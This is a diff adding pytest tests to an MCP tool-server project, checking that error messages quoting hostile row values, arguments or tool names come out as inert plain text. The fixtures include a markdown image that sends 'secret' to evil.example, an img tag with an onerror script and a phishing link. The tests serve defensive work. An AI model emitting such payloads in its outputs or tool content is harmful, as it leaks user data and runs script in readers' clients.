@@ -133,6 +133,135 @@ def test_prose_force_and_empty_text_of_a_tool_are_neutralised(tmp_path):
     assert "![" not in result.structured_content["force"]
 
 
+# Errors: a sentence that quotes a row value or an argument is as inert as prose ------------------
+
+HOSTILE_ROWS = [
+    "![x](https://evil.example/leak.png?d=secret)",
+    "<img src=https://evil.example/i.png onerror=alert(1)>",
+    "[click here](https://evil.example/phish)",
+]
+
+
+def _inert(text: str) -> None:
+    assert "![" not in text and "](" not in text and not re.search(r"<[A-Za-z/!?]", text), text
+
+
+def _error_of(tmp_path, spec: str, arguments: dict | None = None, config: str | None = None) -> str:
+    import os
+
+    from mcpgen.serve.project import open_project
+
+    cwd = os.getcwd()
+    project = open_project(write_project(tmp_path, {"failing": spec}, config))
+    try:
+        result = project.registry.call_sync("failing", arguments or {})
+    finally:
+        project.close()
+        os.chdir(cwd)
+    assert result.is_error
+    return result.content[0].text
+
+
+VALUES_CONFIG = """
+connections:
+  default:
+    duckdb: ":memory:"
+    init:
+      - "CREATE TABLE hostile AS SELECT * FROM (VALUES {values}) t(v)"
+"""
+
+
+def _values_config() -> str:
+    return VALUES_CONFIG.format(values=", ".join("('" + v.replace("'", "''") + "')" for v in HOSTILE_ROWS))
+
+
+@pytest.mark.parametrize("value", HOSTILE_ROWS, ids=["image", "html", "link"])
+@pytest.mark.parametrize(
+    "sql, content",
+    [
+        pytest.param("SELECT CAST(v AS INTEGER) AS n FROM hostile WHERE v = :value", "{{ rows[0].n }}", id="cast"),
+        pytest.param("SELECT error(v) AS n FROM hostile WHERE v = :value", "{{ rows[0].n }}", id="engine-error"),
+        pytest.param("SELECT v FROM hostile WHERE v = :value", "{{ rows[0][rows[0].v] }}", id="template-lookup"),
+        pytest.param("SELECT v FROM hostile WHERE v = :value", "{{ {'a': 1}[rows[0].v] }}", id="filter-key-error"),
+    ],
+)
+def test_error_sentences_quoting_a_row_value_are_inert(tmp_path, value, sql, content):
+    spec = f"""
+        description: A tool whose call fails on a row value.
+        parameters:
+          value: {{type: string, description: The row to read}}
+        sql: {json.dumps(sql)}
+        sources: [https://example.org/]
+        content: {json.dumps(content)}
+        """
+    text = _error_of(tmp_path, spec, {"value": value}, _values_config())
+    assert "evil.example" in text, text  # the value is still quoted, as text
+    _inert(text)
+
+
+@pytest.mark.parametrize("value", HOSTILE_ROWS, ids=["image", "html", "link"])
+def test_error_sentences_quoting_an_argument_are_inert(tmp_path, value):
+    spec = """
+        description: A tool with a strict pattern.
+        parameters:
+          code: {type: string, description: A code, pattern: "^[A-Z]{2}$"}
+        sql: SELECT 1 AS n WHERE :code IS NOT NULL
+        sources: [https://example.org/]
+        content: "{{ rows[0].n }}"
+        """
+    text = _error_of(tmp_path, spec, {"code": value})
+    assert "'code'" in text, text
+    _inert(text)
+
+
+@pytest.mark.parametrize("value", HOSTILE_ROWS, ids=["image", "html", "link"])
+def test_postgresql_error_text_quoting_a_row_value_is_inert(tmp_path, postgres_url, value):
+    spec = """
+        description: A cast that fails on PostgreSQL, on a row made of the argument.
+        parameters:
+          value: {type: string, description: The row}
+        sql: WITH t(v) AS (VALUES (CAST(:value AS text))) SELECT CAST(v AS integer) AS n FROM t
+        sources: [https://example.org/]
+        content: "{{ rows[0].n }}"
+        """
+    text = _error_of(tmp_path, spec, {"value": value}, f"connections:\n  default:\n    url: {postgres_url}\n")
+    assert "invalid input syntax" in text and "evil.example" in text, text
+    _inert(text)
+
+
+@pytest.mark.parametrize(
+    "name", ["![x](https://evil.example/x.png)", "<img src=https://evil.example/i.png>"], ids=["image", "html"]
+)
+def test_unknown_tool_and_resource_errors_are_inert(tmp_path, name):
+    import anyio
+    from mcp import Client
+    from mcp.shared.exceptions import MCPError
+
+    from mcpgen.serve.project import open_project
+    from mcpgen.serve.server import ToolServer
+
+    project = open_project(write_project(tmp_path, {"find_city": SPECS["find_city"]}))
+
+    async def probe() -> list[str]:
+        messages = []
+        async with Client(ToolServer(project.registry).server) as client:
+            for ask in (lambda: client.call_tool(name, {}), lambda: client.read_resource(f"ui://{name}")):
+                try:
+                    await ask()
+                except MCPError as exc:
+                    messages.append(str(exc))
+        return messages
+
+    try:
+        messages = anyio.run(probe)
+    finally:
+        project.close()
+    assert len(messages) == 2, messages
+    for text in messages:
+        assert "evil.example" in text
+        _inert(text)
+
+
 # Terminal: `mcpgen call` prints values and errors as plain text -------------------------------
 
 HOSTILE_VALUES = [
